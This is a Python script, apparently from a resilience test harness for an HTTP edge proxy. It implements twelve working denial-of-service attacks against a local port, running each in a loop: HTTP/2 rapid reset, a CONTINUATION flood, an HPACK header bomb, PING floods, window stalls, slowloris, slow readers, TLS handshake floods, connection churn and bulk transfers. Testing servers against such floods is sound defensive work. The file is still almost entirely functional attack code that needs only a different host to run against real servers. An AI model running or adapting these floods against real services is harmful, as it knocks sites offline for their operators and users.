"""One attack on a port, over and over, until it is stopped: ``attacker.py NAME PORT``. Bytes by hand, no library."""

from __future__ import annotations

import contextlib
import resource
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
#: Connections of the attacks that hold them.
HELD = 400
#: Handshakes that begin at once, and connections that end.
BURST = 50
#: Bytes of long content that is sent.
UPLOAD = 5_000_000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


def head(path: str) -> bytes:
    """A field section by the static table (RFC 7541): GET, http, the path and a host, none of them indexed."""
    return b"\x82\x86\x04" + text(path) + b"\x01" + text("faults.example")


def request(stream: int, path: str) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, head(path))


def settings(window: int | None = None) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, b"" if window is None else struct.pack(">HI", 4, window))


def connect(port: int, buffer: int | None = None) -> socket.socket:
    sock = socket.socket()
    if buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    sock.settimeout(5)
    sock.connect((HOST, port))
    return sock


def flood(port: int, make: Callable[[], list[bytes]]) -> None:
    """Sends pieces on a connection until the edge ends it, and begins anew."""
    pieces = make()
    while True:
        with contextlib.suppress(OSError), connect(port) as sock:
            for piece in pieces:
                sock.sendall(piece)
                if select.select([sock], [], [], 0)[0] and not sock.recv(65_536):
                    break
            sock.settimeout(0.2)
            while sock.recv(65_536):
                pass


def rapid_reset(port: int) -> None:
    reset = struct.pack(">I", 8)
    pairs = [request(n, f"/pass/quick/{n}") + frame(RST_STREAM, 0, n, reset) for n in range(1, 2_000, 2)]
    flood(port, lambda: [settings(), *(b"".join(pairs[at : at + 20]) for at in range(0, len(pairs), 20))])


def made_you_reset(port: int) -> None:
    most = struct.pack(">I", (1 << 31) - 1)
    pairs = [request(n, f"/pass/quick/{n}") + frame(WINDOW_UPDATE, 0, n, most) for n in range(1, 2_000, 2)]
    flood(port, lambda: [settings(), *(b"".join(pairs[at : at + 20]) for at in range(0, len(pairs), 20))])


def continuation_flood(port: int) -> None:
    more = frame(CONTINUATION, 0, 1, b"\0\1x\1y") * 500
    flood(port, lambda: [settings() + frame(HEADERS, END_STREAM, 1, head("/hit/1")), *[more] * 100])


def header_bomb(port: int) -> None:
    """A field of 3,900 bytes enters the dynamic table; each later byte stands for it."""
    large = b"\x40" + text("x-bomb") + b"\x7f" + bytes([(3_900 - 127) & 0x7F | 0x80, (3_900 - 127) >> 7]) + b"b" * 3_900
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, head("/hit/1") + large)
    bomb = head("/hit/1") + b"\xbe" * 4_000
    flood(port, lambda: [settings() + first, *(frame(HEADERS, 5, n, bomb) for n in range(3, 200, 2))])


def pings(port: int) -> None:
    flood(port, lambda: [settings(), *[frame(PING, 0, 0, b"12345678") * 200] * 200])


def held(port: int, begin: Callable[[], socket.socket], step: Callable[[socket.socket], None]) -> None:
    """Keeps connections in a state in which they cost the edge something, and replaces those that it ends."""
    open_: list[socket.socket] = []
    while True:
        while len(open_) < HELD:
            with contextlib.suppress(OSError):
                open_.append(begin())
        ended = []
        for sock in open_:
            try:
                step(sock)
            except OSError:
                ended.append(sock)
        for sock in ended:
            sock.close()
            open_.remove(sock)
        time.sleep(0.2)


def window_stall(port: int) -> None:
    def begin() -> socket.socket:
        sock = connect(port)
        sock.sendall(settings(0) + b"".join(request(n, "/large/slices/1") for n in range(1, 41, 2)))
        return sock

    # One byte of room now and then keeps a stall from looking like one.
    held(port, begin, lambda sock: sock.sendall(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))))


def slowloris(port: int) -> None:
    def begin() -> socket.socket:
        sock = connect(port)
        sock.sendall(b"GET /hit/1 HTTP/1.1\r\nhost: faults.example\r\n")
        return sock

    held(port, begin, lambda sock: sock.sendall(b"x-a: b\r\n"))


def slow_readers(port: int) -> None:
    def begin() -> socket.socket:
        sock = connect(port, buffer=4_096)
        sock.sendall(b"GET /large/slices/1 HTTP/1.1\r\nhost: faults.example\r\n\r\n")
        return sock

    def step(sock: socket.socket) -> None:
        if not sock.recv(16):
            raise OSError

    held(port, begin, step)


def handshakes(port: int) -> None:
    """Begins handshakes and leaves the work of each to the edge."""
    hello = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost").do_handshake()
    first = hello.read()
    while True:
        with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
            burst = [stack.enter_context(connect(port)) for _ in range(BURST)]
            for sock in burst:
                sock.sendall(first)
            for sock in burst:
                sock.recv(65_536)


def ends(port: int) -> None:
    """Opens connections and ends them together."""
    while True:
        with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
            for _ in range(BURST):
                stack.enter_context(connect(port))


def downloads(port: int) -> None:
    """Takes long content from the origin, as fast as it comes."""
    room = bytearray(1 << 20)
    while True:
        with contextlib.suppress(OSError), connect(port) as sock:
            sock.sendall(b"GET /large/passed/1 HTTP/1.1\r\nhost: faults.example\r\nconnection: close\r\n\r\n")
            while sock.recv_into(room):
                pass


def uploads(port: int) -> None:
    """Sends long content to the origin, as fast as it is taken."""
    head = f"POST /pass/1 HTTP/1.1\r\nhost: faults.example\r\nconnection: close\r\ncontent-length: {UPLOAD}\r\n\r\n"
    whole = head.encode() + bytes(UPLOAD)
    while True:
        with contextlib.suppress(OSError), connect(port) as sock:
            sock.sendall(whole)
            while sock.recv(65_536):
                pass


ATTACKS: dict[str, Callable[[int], None]] = {
    "rapid reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "CONTINUATION flood": continuation_flood,
    "header bomb": header_bomb,
    "PING flood": pings,
    "window stall": window_stall,
    "slowloris": slowloris,
    "slow readers": slow_readers,
    "TLS handshakes": handshakes,
    "ends of connections": ends,
    "long downloads": downloads,
    "long uploads": uploads,
}
#: Those on the listener with TLS.
SECURED = {"TLS handshakes"}


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4_096, most), most))
    ATTACKS[sys.argv[1]](int(sys.argv[2]))
